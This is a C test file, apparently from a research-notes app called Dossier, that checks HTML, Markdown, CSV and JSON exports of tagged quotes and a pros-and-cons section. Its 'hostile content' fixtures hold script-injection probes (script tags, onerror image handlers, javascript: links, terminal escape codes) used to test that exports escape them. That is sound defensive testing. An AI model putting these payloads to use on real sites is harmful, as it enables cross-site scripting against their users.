  options.group_by = (DossierExportGrouping) 42;
  options.memos = (DossierExportMemos) 42;
  huge = briefing_export (b, DOSSIER_EXPORT_TEXT, b->doc_a, b->tag_pro, &options);
  g_assert_cmpstr (huge, ==, wide);
}

/* By document with the defaults, and by tag with context, offsets and
 * footnotes: the page's body, exactly. */
static void
test_summary_html (Briefing      *b,
                   gconstpointer  data)
{
  DossierExportOptions options;
  g_autofree char *by_document = briefing_export (b, DOSSIER_EXPORT_HTML, 0, 0, NULL);
  g_autofree char *by_tag = NULL;
  g_autofree char *body = html_body (by_document);
  g_autofree char *tag_body = NULL;

  g_assert_cmpstr (body, ==,
    "<body>\n"
    "<header><h1 dir=\"auto\">Bridge briefing</h1>\n"
    "<p class=\"subtitle\">Tagged summary, by document</p></header><nav aria-label=\"Contents\"><ol>\n"
    "<li dir=\"auto\"><a href=\"#doc-1\">Harbour plan</a></li>\n"
    "<li dir=\"auto\"><a href=\"#doc-2\">Ferry report</a></li>\n"
    "</ol></nav><main><article class=\"document\" id=\"doc-1\"><h2 dir=\"auto\">Harbour plan</h2>\n"
    "<dl class=\"meta\">\n"
    "<dt>Author</dt>\n"
    "<dd dir=\"auto\">Jeanne Ør</dd>\n"
    "<dt>Outlet</dt>\n"
    "<dd dir=\"auto\">The Quay Gazette</dd>\n"
    "<dt>Date</dt>\n"
    "<dd dir=\"auto\">4 March 2025</dd>\n"
    "<dt>Source</dt>\n"
    "<dd dir=\"auto\"><a href=\"https://news.example/harbour\" rel=\"noreferrer\">https://news.example/harbour</a></dd>\n"
    "</dl>\n"
    "<section class=\"tag\"><h3 dir=\"auto\">\n"
    "<span class=\"swatch\" style=\"background:#2ec27e\" aria-hidden=\"true\"></span>Arguments/Pro <span class=\"count\">(1)</span>\n"
    "</h3>\n"
    "<figure class=\"quote\" style=\"border-left-color:#2ec27e\"><blockquote><p dir=\"auto\">voted 31 to 24</p></blockquote>\n"
    "<figcaption><p><span class=\"section\">§ The vote</span></p>\n"
    "<aside class=\"memo\"><strong>Note:</strong> <span dir=\"auto\">Narrow.</span></aside></figcaption></figure></section><section class=\"tag\"><h3 dir=\"auto\">\n"
    "<span class=\"swatch\" style=\"background:#e01b24\" aria-hidden=\"true\"></span>Arguments/Con <span class=\"count\">(1)</span>\n"
    "</h3>\n"
    "<figure class=\"quote\" style=\"border-left-color:#e01b24\"><blockquote><p dir=\"auto\">£210 million</p></blockquote>\n"
    "<figcaption><p><span class=\"section\">§ Costs</span></p>\n"
    "<aside class=\"memo\"><strong>Note:</strong> <span dir=\"auto\">The merchants’ figure.\n"
    "Disputed.</span></aside></figcaption></figure></section><section class=\"tag\"><h3 dir=\"auto\">\n"
    "<span class=\"swatch\" style=\"background:#f5c211\" aria-hidden=\"true\"></span>Costs <span class=\"count\">(1)</span>\n"
    "</h3>\n"
    "<figure class=\"quote\" style=\"border-left-color:#f5c211\"><blockquote><p dir=\"auto\">£210 million</p></blockquote>\n"
    "<figcaption><p><span class=\"section\">§ Costs</span></p>\n"
    "<aside class=\"memo\"><strong>Note:</strong> <span dir=\"auto\">The merchants’ figure.\n"
    "Disputed.</span></aside></figcaption></figure></section></article><article class=\"document\" id=\"doc-2\"><h2 dir=\"auto\">Ferry report</h2>\n"
    "<dl class=\"meta\">\n"
    "<dt>Outlet</dt>\n"
    "<dd dir=\"auto\">Wire</dd>\n"
    "<dt>Date</dt>\n"
    "<dd dir=\"auto\">5 March 2025</dd>\n"
    "<dt>Source</dt>\n"
    "<dd dir=\"auto\"><a href=\"https://news.example/harbour\" rel=\"noreferrer\">https://news.example/harbour</a></dd>\n"
    "</dl>\n"
    "<section class=\"tag\"><h3 dir=\"auto\">\n"
    "<span class=\"swatch\" style=\"background:#e01b24\" aria-hidden=\"true\"></span>Arguments/Con <span class=\"count\">(1)</span>\n"
    "</h3>\n"
    "<figure class=\"quote\" style=\"border-left-color:#e01b24\"><blockquote><p dir=\"auto\">take their passengers</p></blockquote></figure></section></article></main>\n"
    "</body>");

  dossier_export_options_init (&options);
  options.group_by = DOSSIER_EXPORT_GROUP_BY_TAG;
  options.context_words = 3;
  options.offsets = TRUE;
  options.memos = DOSSIER_EXPORT_MEMOS_FOOTNOTES;
  by_tag = briefing_export (b, DOSSIER_EXPORT_HTML, 0, b->tag_con, &options);
  tag_body = html_body (by_tag);
  g_assert_cmpstr (tag_body, ==,
    "<body>\n"
    "<header><h1 dir=\"auto\">Bridge briefing — Arguments/Con</h1>\n"
    "<p class=\"subtitle\">Tagged summary, by tag</p></header><nav aria-label=\"Contents\"><ol>\n"
    "<li dir=\"auto\"><a href=\"#tag-3\">Arguments/Con</a></li>\n"
    "<li dir=\"auto\"><a href=\"#sources\">Sources</a></li>\n"
    "</ol></nav><main><article class=\"tag\" id=\"tag-3\"><h2 dir=\"auto\">\n"
    "<span class=\"swatch\" style=\"background:#e01b24\" aria-hidden=\"true\"></span>Arguments/Con <span class=\"count\">(2)</span>\n"
    "</h2>\n"
    "<figure class=\"quote\" style=\"border-left-color:#e01b24\"><blockquote><p dir=\"auto\"><span class=\"context\">…bill may reach </span><mark>£210 million</mark><span class=\"context\"> by 2030.</span><sup class=\"ref\"><a id=\"ref-1\" href=\"#note-1\">1</a></sup></p></blockquote>\n"
    "<figcaption><p><span class=\"source\"><cite><a href=\"#doc-1\">Harbour plan</a></cite>, The Quay Gazette, 4 March 2025</span> · <span class=\"section\">§ Costs</span> · <span class=\"offsets\">characters 161–173</span></p></figcaption></figure><figure class=\"quote\" style=\"border-left-color:#e01b24\"><blockquote><p dir=\"auto\"><span class=\"context\">…the tram would </span><mark>take their passengers</mark><span class=\"context\"> within a year.</span></p></blockquote>\n"
    "<figcaption><p><span class=\"source\"><cite><a href=\"#doc-2\">Ferry report</a></cite>, Wire, 5 March 2025</span> · <span class=\"offsets\">characters 40–61</span></p></figcaption></figure></article><article class=\"sources\" id=\"sources\"><h2 dir=\"auto\">Sources</h2>\n"
    "<section class=\"document\" id=\"doc-1\"><h3 dir=\"auto\">Harbour plan</h3>\n"
    "<dl class=\"meta\">\n"
    "<dt>Author</dt>\n"
    "<dd dir=\"auto\">Jeanne Ør</dd>\n"
    "<dt>Outlet</dt>\n"
    "<dd dir=\"auto\">The Quay Gazette</dd>\n"
    "<dt>Date</dt>\n"
    "<dd dir=\"auto\">4 March 2025</dd>\n"
    "<dt>Source</dt>\n"
    "<dd dir=\"auto\"><a href=\"https://news.example/harbour\" rel=\"noreferrer\">https://news.example/harbour</a></dd>\n"
    "</dl></section><section class=\"document\" id=\"doc-2\"><h3 dir=\"auto\">Ferry report</h3>\n"
    "<dl class=\"meta\">\n"
    "<dt>Outlet</dt>\n"
    "<dd dir=\"auto\">Wire</dd>\n"
    "<dt>Date</dt>\n"
    "<dd dir=\"auto\">5 March 2025</dd>\n"
    "<dt>Source</dt>\n"
    "<dd dir=\"auto\"><a href=\"https://news.example/harbour\" rel=\"noreferrer\">https://news.example/harbour</a></dd>\n"
    "</dl></section></article><section class=\"notes\"><h2>Notes</h2>\n"
    "<ol><li dir=\"auto\" id=\"note-1\">The merchants’ figure.\n"
    "Disputed. <a class=\"back\" href=\"#ref-1\" aria-label=\"Back to the quote\">↩</a>\n"
    "</li></ol></section></main>\n"
    "</body>");
}

/* ---- Hostile content ----------------------------------------------------- */

/* Everything that could be markup, in every place a user's (or a
 * sender's) text reaches a summary. */
static const char hostile_title[] =
  "[click](javascript:alert(1)) <script>alert(1)</script> ![img](http://evil.example/x.png)\x1b[31m";
static const char hostile_text[] =
  "Title line\n\n"
  "<h1>Heading</h1> & [link](x) {#id}\n\n"
  "1. not a list\n\n"
  "> not a quote\n\n"
  "| a | b | table\n\n"
  "[^1]: fake footnote\n\n"
  "$x^2$ and ~~strike~~ {.class} @cite *em* _em_ `code` \\ back\n\n"
  "http://evil.example and www.evil.example\n\n"
  "<!-- hidden --> <img src=x onerror=alert(1)> </blockquote></figure><script>alert(2)</script>\n\n"
  "- item\n\n"
  "# not a heading either";
static const char *hostile_quotes[] = {
  "1. not a list",
  "> not a quote",
  "| a | b | table",
  "[^1]: fake footnote",
  "$x^2$ and ~~strike~~ {.class} @cite *em* _em_ `code` \\ back",
  "http://evil.example and www.evil.example",
  "<!-- hidden --> <img src=x onerror=alert(1)> </blockquote></figure><script>alert(2)</script>",
  "- item",
  "# not a heading either",
};
static const char hostile_memo[] =
  "</aside><script>alert(3)</script>\n# heading\n[^9]: x\x1b[2J\x07 [a](javascript:alert(4))";

/* ---- A section plugged in ------------------------------------------------ */

/* What a section once (like pros and cons) sees: every argument's
 * evidence, read through the context, placed by highlight id. */
typedef struct
{
  GPtrArray *statements;   /* char * */
  GPtrArray *pros;         /* DossierSummaryPassage */
  GPtrArray *notes;        /* char * */
} ArgumentsData;

static void
arguments_data_free (gpointer user_data)
{
  ArgumentsData *data = user_data;

  g_ptr_array_unref (data->statements);
  g_ptr_array_unref (data->pros);
  g_ptr_array_unref (data->notes);
  g_free (data);
}

static gboolean
arguments_collect (DossierSummary               *s,
                   const DossierExportDocument  *document,
                   gpointer                     *out,
                   guint                        *n_items,
                   GError                      **error)
{
  ArgumentsData *data = g_new0 (ArgumentsData, 1);
  g_autoptr(GError) local_error = NULL;
  sqlite3_stmt *stmt;
  gboolean row;

  /* A section once is collected once, for the whole export. */
  g_assert_null (document);
  g_assert_cmpuint (s->depth, ==, 0);

  /* A highlight the project does not have is an error that says so. */
  g_assert_null (dossier_summary_passage_lookup (s, 999999, &local_error));
  g_assert_error (local_error, DOSSIER_PROJECT_ERROR, DOSSIER_PROJECT_ERROR_NOT_FOUND);

  data->statements = g_ptr_array_new_with_free_func (g_free);
  data->pros = g_ptr_array_new_with_free_func ((GDestroyNotify) dossier_summary_passage_unref);
  data->notes = g_ptr_array_new_with_free_func (g_free);
  stmt = dossier_export_context_prepare (s->ctx,
      "SELECT a.statement, e.highlight, e.note FROM arguments a "
      "JOIN argument_evidence e ON e.argument = a.id "
      "WHERE a.polarity = 'pro' ORDER BY a.position, e.highlight", error);
  g_assert_nonnull (stmt);
  *n_items = 0;
  while (dossier_export_context_step (s->ctx, stmt, &row, error) && row)
    {
      DossierSummaryPassage *p;

      p = dossier_summary_passage_lookup (s, sqlite3_column_int64 (stmt, 1), error);
      /* NULL without an error: its document is filtered out. */
      g_assert_true (p != NULL || *error == NULL);
      if (p == NULL)
        continue;
      g_ptr_array_add (data->statements,
                       g_strdup (dossier_export_context_column_text (s->ctx, stmt, 0)));
      g_ptr_array_add (data->pros, p);
      g_ptr_array_add (data->notes,
                       g_strdup (dossier_export_context_column_text (s->ctx, stmt, 2)));
      (*n_items)++;
    }
  sqlite3_reset (stmt);
  *out = data;
  return TRUE;
}

static void
arguments_write (DossierSummary *s,
                 gpointer        user_data)
{
  ArgumentsData *data = user_data;
  DossierSummaryHeading part = { "arguments", "Pros & cons", "arguments", NULL, -1, TRUE };
  DossierSummaryHeading pros = { "pros", "Pros", NULL, NULL, (int) data->pros->len };
  DossierSummaryHeading cons = { "cons", "Cons", NULL, NULL, 0 };

  dossier_summary_open_part (s, &part);
  dossier_summary_paragraph (s, "# Is the *bridge* worth it?\n\n- <b>Asked</b> by 1. the council");
  dossier_summary_open_part (s, &pros);
  for (guint i = 0; i < data->pros->len; i++)
    {
      DossierSummaryPassage *p = g_ptr_array_index (data->pros, i);

      dossier_summary_paragraph (s, g_ptr_array_index (data->statements, i));
      dossier_summary_write_quote_full (s, p, "#2ec27e", g_ptr_array_index (data->notes, i));
    }
  dossier_summary_close_part (s);
  dossier_summary_open_part (s, &cons);
  dossier_summary_remark (s, "No evidence.");
  dossier_summary_close_part (s);
  dossier_summary_close_part (s);
}

static const DossierSummarySection arguments_section = {
  "arguments", DOSSIER_SUMMARY_ONCE, arguments_collect, arguments_write, arguments_data_free,
};

static char *
briefing_export_with_section (Briefing                   *b,
                              DossierExportFormat         format,
                              gint64                      document_id,
                              const DossierExportOptions *options)
{
  const DossierSummarySection *const sections[] = {
    &dossier_summary_tags_section, &arguments_section,
  };
  DossierExportFilter filter = { document_id, 0 };
  g_autoptr(DossierExportContext) ctx = NULL;
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;
  DossierExportWriter w;

  ctx = dossier_export_context_new (b->project, &filter, FALSE, NULL, &error);
  g_assert_no_error (error);
  ctx->options = *options;
  dossier_export_writer_init (&w, out, NULL);
  g_assert_true (dossier_summary_write (ctx, &w, format, sections, G_N_ELEMENTS (sections), &error));
  g_assert_no_error (error);
  g_assert_true (dossier_export_writer_finish (&w, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
  g_assert_true (g_output_stream_close (out, NULL, NULL));
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
}

/* A section once (pros and cons) comes after the documents, or after the
 * tags and before the sources; its quotes (an untagged evidence highlight
 * too) name their source, carry the section's note, are escaped like
 * every other; its parts are columns in HTML; a filtered-out document's
 * evidence is left out, and a section with nothing to show with it. */
static void
test_summary_section_once (Briefing      *b,
                           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  DossierExportOptions options;
  gint64 question, argument, evidence;
  g_autofree char *md = NULL;
  g_autofree char *by_tag = NULL;
  g_autofree char *text = NULL;
  g_autofree char *html = NULL;
  g_autofree char *only_a = NULL;
  g_autofree char *plain = NULL;
  const char *tail;
  htmlDocPtr doc;
  xmlNodePtr root;

  question = dossier_project_add_question (b->project, "Is the bridge worth it?", &error);
  g_assert_no_error (error);
  argument = dossier_project_add_argument (b->project, question, DOSSIER_POLARITY_PRO,
                                           "*Faster* crossings", 0, 3, &error);
  g_assert_no_error (error);
  {
    gint64 start, end;

    text_range (briefing_b, "within a year", &start, &end);
    evidence = dossier_project_add_argument_evidence_range (b->project, argument, b->doc_b,
                                                            start, end, "1. Soon <i>enough</i>",
                                                            &error);
    g_assert_no_error (error);
    g_assert_cmpint (evidence, >, 0);
  }

  dossier_export_options_init (&options);
  md = briefing_export_with_section (b, DOSSIER_EXPORT_MARKDOWN, 0, &options);
  /* After the last document's tags (and its untagged passage, which says
   * what it is evidence for), before nothing. */
  tail = strstr (md, "> take their passengers\n\n");
  g_assert_nonnull (tail);
  g_assert_cmpstr (tail, ==,
    "> take their passengers\n"
    "\n"
    "### Untagged (1)\n"
    "\n"
    "> within a year\n"
    "\n"
    "Evidence for “\\*Faster\\* crossings”\n"
    "\n"
    "## Pros \\& cons\n"
    "\n"
    "\\# Is the \\*bridge\\* worth it?\n"
    "\n"
    "\\- \\<b\\>Asked\\</b\\> by 1. the council\n"
    "\n"
    "### Pros (1)\n"
    "\n"
    "\\*Faster\\* crossings\n"
    "\n"
    "> within a year\n"
    ">\n"
    "> — *Ferry report*, Wire, 5 March 2025\n"
    "\n"
    "1\\. Soon \\<i\\>enough\\</i\\>\n"
    "\n"
    "### Cons (0)\n"
    "\n"
    "*No evidence.*\n"
    "\n");
  /* Each section once: the untagged evidence highlight is in its
   * document's Untagged list and in the section, in no tag's list. */
  g_assert_true (strstr (md, "## Pros \\& cons\n") == g_strrstr (md, "## Pros \\& cons\n"));
  g_assert_true (strstr (md, "### Untagged (1)\n") == g_strrstr (md, "### Untagged"));
  g_assert_true (strstr (md, "> within a year\n") < strstr (md, "## Pros \\& cons\n"));
  g_assert_true (strstr (strstr (md, "> within a year\n") + 1, "> within a year\n")
                 == g_strrstr (md, "> within a year\n"));
  g_assert_true (g_strrstr (md, "> within a year\n") > strstr (md, "## Pros \\& cons\n"));

  /* By tag: the section, then the sources, which list its source too. */
  options.group_by = DOSSIER_EXPORT_GROUP_BY_TAG;
  by_tag = briefing_export_with_section (b, DOSSIER_EXPORT_MARKDOWN, 0, &options);
  g_assert_nonnull (strstr (by_tag, "## Pros \\& cons\n"));
  g_assert_nonnull (strstr (by_tag, "## Sources\n"));
  g_assert_true (strstr (by_tag, "## Pros \\& cons\n") < strstr (by_tag, "## Sources\n"));
  g_assert_nonnull (strstr (by_tag, "### Ferry report\n"));

  /* Text: the paragraph and the note indented with their part, the
   * statement as written. */
  options.group_by = DOSSIER_EXPORT_GROUP_BY_DOCUMENT;
  text = briefing_export_with_section (b, DOSSIER_EXPORT_TEXT, 0, &options);
  tail = strstr (text, "Pros & cons\n");
  g_assert_nonnull (tail);
  g_assert_cmpstr (tail, ==,
    "Pros & cons\n"
    "-----------\n"
    "\n"
    "# Is the *bridge* worth it?\n"
    "\n"
    "- <b>Asked</b> by 1. the council\n"
    "\n"
    "  Pros (1)\n"
    "\n"
    "  *Faster* crossings\n"
    "\n"
    "    “within a year”\n"
    "    Ferry report, Wire, 5 March 2025\n"
    "    1. Soon <i>enough</i>\n"
    "\n"
    "  Cons (0)\n"
    "\n"
    "  No evidence.\n"
    "\n");

  /* HTML: an article in the contents, its parts in columns, text and
   * note as text nodes only. */
  html = briefing_export_with_section (b, DOSSIER_EXPORT_HTML, 0, &options);
  doc = htmlReadMemory (html, strlen (html), NULL, "UTF-8",
                        HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING | HTML_PARSE_NONET);
  g_assert_nonnull (doc);
  root = xmlDocGetRootElement (doc);
  g_assert_nonnull (root);
  xmlFreeDoc (doc);
  g_assert_nonnull (strstr (html, "<article class=\"arguments columns\" id=\"arguments\">"));
  g_assert_nonnull (strstr (html, "<a href=\"#arguments\">Pros &amp; cons</a>"));
  g_assert_nonnull (strstr (html, "<section class=\"pros\">"));
  g_assert_nonnull (strstr (html, "<p class=\"text\" dir=\"auto\"># Is the *bridge* worth it?</p>"));
  g_assert_nonnull (strstr (html, "<p class=\"text\" dir=\"auto\">- &lt;b&gt;Asked&lt;/b&gt; by 1. the council</p>"));
  g_assert_nonnull (strstr (html, "<p class=\"comment\" dir=\"auto\">1. Soon &lt;i&gt;enough&lt;/i&gt;</p>"));
  g_assert_nonnull (strstr (html, "<cite><a href=\"#doc-"));
  g_assert_null (strstr (html, "<i>"));
  g_assert_null (strstr (html, "<b>"));

  /* Only document A: the evidence (in B) is left out, and the section with it. */
  only_a = briefing_export_with_section (b, DOSSIER_EXPORT_MARKDOWN, b->doc_a, &options);
  g_assert_null (strstr (only_a, "Pros \\& cons"));
  g_assert_null (strstr (only_a, "within a year"));

  /* The built-in summary has no such section. */
  plain = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, 0, NULL);
  g_assert_null (strstr (plain, "Pros \\& cons"));
}

static const char briefing_c[] =
  "Pier notice\n\n"
  "Tolls on the pier rise in May, the harbour authority said.";
static const char *const quotes_c[] = { "Tolls on the pier rise in May", "the harbour authority said" };

/* A document whose only highlights are untagged evidence (cited for a
 * stakeholder or an argument, never tagged) has them listed, not "No
 * highlights.": in a summary under "Untagged", last of its tags, each
 * saying what it is evidence for; by tag too; a tag's summary leaves
 * them out. CSV gives each a row with an empty tag, JSON lists it with
 * no tags. */
static void
test_summary_untagged_evidence (Briefing      *b,
                                gconstpointer  data)
{
  const char *no_headings[] = { NULL };
  g_autoptr(GError) error = NULL;
  DossierExportOptions options;
  gint64 doc_c, authority, question, argument, start, end;
  g_autofree char *md = NULL;
  g_autofree char *html = NULL;
  g_autofree char *by_tag = NULL;
  g_autofree char *tagged = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *json = NULL;
  const char *part;

  doc_c = add_document_with_headings (b->project, "Pier notice", NULL, "Harbour Post",
                                      NULL, briefing_c, no_headings);
  authority = dossier_project_add_stakeholder (b->project, "Harbour Authority", NULL,
                                               DOSSIER_STAKEHOLDER_GOVERNMENT, &error);
  g_assert_no_error (error);
  question = dossier_project_add_question (b->project, "Keep the pier open?", &error);
  g_assert_no_error (error);
  argument = dossier_project_add_argument (b->project, question, DOSSIER_POLARITY_CON,
                                           "Tolls *rise*", 0, 3, &error);
  g_assert_no_error (error);
  text_range (briefing_c, "Tolls on the pier rise in May", &start, &end);
  g_assert_cmpint (dossier_project_add_argument_evidence_range (b->project, argument, doc_c,
                                                                start, end, "", &error), >, 0);
  g_assert_no_error (error);
  g_assert_cmpint (dossier_project_add_stakeholder_evidence_range (b->project, authority, doc_c,
                                                                   start, end, "", DOSSIER_EVIDENCE_NONE,
                                                                   DOSSIER_STANCE_UNKNOWN, &error), >, 0);
  g_assert_no_error (error);
  text_range (briefing_c, "the harbour authority said", &start, &end);
  g_assert_cmpint (dossier_project_add_stakeholder_evidence_range (b->project, authority, doc_c,
                                                                   start, end, "", DOSSIER_EVIDENCE_NONE,
                                                                   DOSSIER_STANCE_UNKNOWN, &error), >, 0);
  g_assert_no_error (error);

  /* By document: the document's part lists both, in the text's order. */
  md = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, 0, NULL);
  part = strstr (md, "## Pier notice\n");
  g_assert_nonnull (part);
  g_assert_true (g_str_has_prefix (part,
    "## Pier notice\n"
    "\n"
    "- **Outlet:** Harbour Post\n"
    "- **Source:** <https://news.example/harbour>\n"
    "\n"
    "### Untagged (2)\n"
    "\n"
    "> Tolls on the pier rise in May\n"
    "\n"
    "Evidence for Harbour Authority; “Tolls \\*rise\\*”\n"
    "\n"
    "> the harbour authority said\n"
    "\n"
    "Evidence for Harbour Authority\n"
    "\n"));
  g_assert_null (strstr (md, "No highlights."));

  html = briefing_export (b, DOSSIER_EXPORT_HTML, doc_c, 0, NULL);
  g_assert_nonnull (strstr (html, ">Untagged"));
  g_assert_nonnull (strstr (html, "<p class=\"comment\" dir=\"auto\">Evidence for Harbour Authority; “Tolls *rise*”</p>"));
  g_assert_nonnull (strstr (html, "the harbour authority said"));
  g_assert_null (strstr (html, "No highlights."));

  /* By tag: a part of their own, after the tags'. */
  dossier_export_options_init (&options);
  options.group_by = DOSSIER_EXPORT_GROUP_BY_TAG;
  by_tag = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, 0, &options);
  part = strstr (by_tag, "## Untagged (2)\n");
  g_assert_nonnull (part);
  g_assert_true (strstr (by_tag, "## Costs (1)\n") < part);
  g_assert_nonnull (strstr (part, "> Tolls on the pier rise in May\n"));
  g_assert_nonnull (strstr (part, "> the harbour authority said\n"));

  /* One tag's summary: they carry no tag. */
  tagged = briefing_export (b, DOSSIER_EXPORT_MARKDOWN, 0, b->tag_costs, NULL);
  g_assert_null (strstr (tagged, "Untagged"));
  g_assert_null (strstr (tagged, "Tolls on the pier"));

  csv = briefing_export (b, DOSSIER_EXPORT_CSV, 0, 0, NULL);
  for (guint i = 0; i < G_N_ELEMENTS (quotes_c); i++)
    {
      g_autofree char *row = NULL;

      text_range (briefing_c, quotes_c[i], &start, &end);
      row = g_strdup_printf ("\r\nPier notice,%" G_GINT64_FORMAT ",,%" G_GINT64_FORMAT ",%"
                             G_GINT64_FORMAT ",%s,", doc_c, start, end, quotes_c[i]);
      g_assert_nonnull (strstr (csv, row));
      g_assert_true (strstr (csv, row) == g_strrstr (csv, row));
      /* No tag, no tag_id: the row's last field is empty. */
      g_assert_cmpint (strstr (strstr (csv, row) + 2, "\r\n")[-1], ==, ',');
    }

  json = briefing_export (b, DOSSIER_EXPORT_JSON, doc_c, 0, NULL);
  g_assert_nonnull (strstr (json, "\"quote\": \"the harbour authority said\", \"tags\": []"));
  g_assert_nonnull (strstr (json, "\"quote\": \"Tolls on the pier rise in May\", \"tags\": []"));
}

static DossierProject *
hostile_project (char **dir,
                 char **path)
{
  const char *headings[] = { "<h1>Heading</h1> & [link](x) {#id}", NULL };
  DossierProject *project = test_create_project ("hostile", "<b>Project</b> [x](y)", dir, path);
  gint64 doc, doc2, tag;

  doc = add_document_with_headings (project, hostile_title, "*bold* _em_ `code`", "# Not a heading",
                                    "<2025-03-04>", hostile_text, headings);
  doc2 = add_document_with_headings (project, "Plain", NULL, NULL, NULL, "Plain\n\nplain text",
                                     (const char *[]) { NULL });
  tag = add_colored_tag (project, "<img src=x onerror=alert(1)> [t](u) *t*", 0, "#e01b24");
  for (guint i = 0; i < G_N_ELEMENTS (hostile_quotes); i++)
    exchange_add_highlight (project, doc, hostile_text, hostile_quotes[i], &tag, 1, hostile_memo);
  exchange_add_highlight (project, doc2, "Plain\n\nplain text", "plain text", &tag, 1, NULL);
  return project;
}

static char *
export_with (DossierProject      *project,
             DossierExportFormat  format,
             DossierExportGrouping group_by,
             DossierExportMemos   memos)
{
  DossierExportOptions options;
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;

  dossier_export_options_init (&options);
  options.group_by = group_by;
  options.memos = memos;
  options.context_words = 4;
  options.offsets = TRUE;
  g_assert_true (dossier_export_to_stream (project, format, NULL, &options, out, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
  g_assert_true (g_output_stream_close (out, NULL, NULL));
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
}

/* Markdown: every character that is markup somewhere (CommonMark, GitHub,
 * pandoc) is backslash-escaped when it comes from the project; what is
 * left unescaped is ours: headings, field bullets, "**"/"*" around our
 * labels and bold quotes, "> " blockquotes, "[^N]" footnotes and
 * "<https://…>" autolinks. */
static void
assert_markdown_inert (const char *md)
{
  g_auto(GStrv) lines = g_strsplit (md, "\n", -1);

  g_assert_true (g_utf8_validate (md, -1, NULL));
  for (const char *p = md; *p; p++)
    g_assert_true ((guchar) *p >= 0x20 || *p == '\n');  /* no ESC, BEL, … */

  for (guint i = 0; lines[i] != NULL; i++)
    {
      const char *line = lines[i];

      /* Blockquote lines, then the same checks on what they hold. */
      while (g_str_has_prefix (line, "> "))
        line += 2;
      if (strcmp (line, ">") == 0)
        continue;
      /* Markdown reads these at the start of a line: ours are headings
       * ("#" runs then a space), field bullets, footnote definitions. */
      if (line[0] == '#')
        g_assert_true (g_regex_match_simple ("^#{1,6} ", line, 0, 0));
      if (line[0] == '-' || line[0] == '+' || line[0] == '=' || line[0] == ':' || line[0] == '|')
        g_assert_true (g_str_has_prefix (line, "- **"));
      g_assert_false (g_regex_match_simple ("^[0-9]+[.)]", line, 0, 0));

      for (const char *p = line; *p; p++)
        {
          gboolean escaped = p > line && p[-1] == '\\' && (p - 1 == line || p[-2] != '\\');

          switch (*p)
            {
            case '<':
              g_assert_true (escaped || g_str_has_prefix (p, "<https://news.example/"));
              break;
            case '[':
              g_assert_true (escaped || g_regex_match_simple ("^\\[\\^[0-9]+\\]", p, 0, 0));
              break;
            case ']':
              g_assert_true (escaped || (p > line && g_ascii_isdigit (p[-1])));
              break;
            case '`': case '$': case '~': case '{': case '}': case '@': case '|': case '&':
            case '_':
              g_assert_true (escaped);
              break;
            case '^':
              g_assert_true (escaped || (p > line && p[-1] == '['));
              break;
            default:
              break;
            }
        }
      g_assert_null (strstr (line, "http:"));
      g_assert_null (strstr (line, "www.evil"));
    }
}

/* Inert, and the text is all there, escaped, not dropped. */
static void
assert_markdown_hostile (const char *md)
{
  assert_markdown_inert (md);
  g_assert_nonnull (strstr (md, "\\[click\\](javascript\\:alert(1)) \\<script\\>alert(1)\\</script\\> "
                                "!\\[img\\](http\\://evil.example/x.png)"));
  g_assert_nonnull (strstr (md, "1\\. not a list"));
  g_assert_nonnull (strstr (md, "\\> not a quote"));
  g_assert_nonnull (strstr (md, "\\- item"));
  g_assert_nonnull (strstr (md, "\\# not a heading either"));
  g_assert_nonnull (strstr (md, "\\$x\\^2\\$ and \\~\\~strike\\~\\~ \\{.class\\} \\@cite \\*em\\* \\_em\\_ "
                                "\\`code\\` \\\\ back"));
  g_assert_nonnull (strstr (md, "http\\://evil.example and www\\.evil.example"));
  g_assert_nonnull (strstr (md, "\\<img src=x onerror=alert(1)\\> \\[t\\](u) \\*t\\*"));
  g_assert_nonnull (strstr (md, "\\</aside\\>\\<script\\>alert(3)\\</script\\>"));
  g_assert_nonnull (strstr (md, "\\[\\^9\\]: x"));
  g_assert_nonnull (strstr (md, "\\[a\\](javascript\\:alert(4))"));
}

/* HTML: parsed back, the page holds no element, attribute or link that
 * the project's text could have made; the text is there as text. */
static void
assert_html_inert (const char *html)
{
  htmlDocPtr doc = htmlReadMemory (html, strlen (html), NULL, "UTF-8",
                                   HTML_PARSE_NONET | HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING);
  g_autoptr(GPtrArray) stack = g_ptr_array_new ();
  static const char *allowed[] = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "h4", "p",
    "nav", "ol", "li", "a", "main", "article", "section", "dl", "dt", "dd", "span", "figure",
    "blockquote", "mark", "figcaption", "cite", "aside", "strong", "sup", NULL
  };
  guint styles = 0;

  g_assert_nonnull (doc);
  g_ptr_array_add (stack, xmlDocGetRootElement (doc));
  while (stack->len > 0)
    {
      xmlNodePtr node = g_ptr_array_steal_index (stack, stack->len - 1);

      for (xmlNodePtr child = node->children; child != NULL; child = child->next)
        g_ptr_array_add (stack, child);
      if (node->next != NULL && node->parent == NULL)
        g_ptr_array_add (stack, node->next);

      g_assert_true (node->type != XML_COMMENT_NODE);
      if (node->type != XML_ELEMENT_NODE)
        continue;
      if (!g_strv_contains (allowed, (const char *) node->name))
        g_error ("element <%s> in the HTML export", node->name);
      if (strcmp ((const char *) node->name, "style") == 0)
        styles++;

      for (xmlAttrPtr attr = node->properties; attr != NULL; attr = attr->next)
        {
          g_autofree char *value = (char *) xmlGetProp (node, attr->name);
          const char *name = (const char *) attr->name;

          if (strcmp (name, "href") == 0)
            g_assert_true (g_regex_match_simple ("^(#[a-z]+-[0-9]+|#sources|https://news\\.example/)",
                                                 value, 0, 0));
          else if (strcmp (name, "style") == 0)
            g_assert_true (g_regex_match_simple ("^(border-left-color|background):#[0-9a-f]{6}$",
                                                 value, 0, 0));
          else if (strcmp (name, "class") == 0 || strcmp (name, "id") == 0)
